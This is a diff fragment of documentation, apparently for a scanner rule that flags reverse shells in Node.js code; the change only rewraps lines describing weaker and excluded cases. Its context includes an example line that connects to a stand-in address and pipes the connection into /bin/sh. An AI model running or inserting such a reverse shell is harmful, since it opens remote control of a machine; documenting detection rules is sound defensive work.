@@ -9,9 +9,9 @@ the user who started the server.
 
 **Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`
 
-**Reported with less weight.** A shell that is started in the same file that opens a connection, where the way
-from one to the other is not known. A browser that is opened through a shell on an address from the network, in
-quotes: a shell still replaces `$(...)` inside of them.
+**Reported with less weight.** A shell that is started in the same file that opens a connection, where the
+way from one to the other is not known. A browser that is opened through a shell on an address from the
+network, in quotes: a shell still replaces `$(...)` inside of them.
 
 **Left alone.** A browser that is opened without a shell; a shell that runs what the caller of a tool asks
 for, beside an unrelated socket; a language server that is started with pipes; a client of a text protocol
